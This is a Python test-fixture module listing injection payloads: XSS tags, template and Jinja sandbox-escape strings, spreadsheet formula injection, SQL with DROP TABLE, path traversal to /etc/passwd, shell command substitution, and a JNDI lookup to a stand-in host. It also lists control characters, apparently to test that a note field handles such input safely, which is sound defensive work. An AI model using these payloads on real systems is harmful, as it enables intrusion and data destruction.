"""Texts that mean harm where they are run, and are only text here."""

HOSTILE: dict[str, str] = {
    "script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "template": "${7*7} #{7*7} <%= 7*7 %>",
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a sign": '+HYPERLINK("http://evil.test")',
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "' OR 1=1; DROP TABLE shifts; --",
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/x); `id` | cat",
    "format string": "%s%s%n {0.__class__} %(a)s",
    "log line": '","level":"error","x":"',
    "jndi": "${jndi:ldap://evil.test/a}",
    "escaped dots": "%2e%2e%2f%00",
    "emoji and beyond": "👮🏽‍♀️ 𠮷𡈽 \U0010ffff",
    "zero width": "a\u200bb\u200dc\ufeffd",
    "combining": "e" + "\u0301" * 200,
    "line ends": "one\r\ntwo\ttabbed\u2028three",
    "spaces": "  \u3000 two ends \u00a0 ",
    "entity": "&lt;b&gt; &#x3c;script&#x3e;",
}
"""All may be typed into a note."""

CONTROLS: dict[str, str] = {
    "nul": "a\u0000b",
    "bell": "a\u0007",
    "escape": "\u001b[2J",
    "delete": "a\u007f",
    "next line": "a\u0085b",
    "right to left override": "txt.\u202eexe",
    "isolate": "\u2066a\u2069",
}
"""None may."""
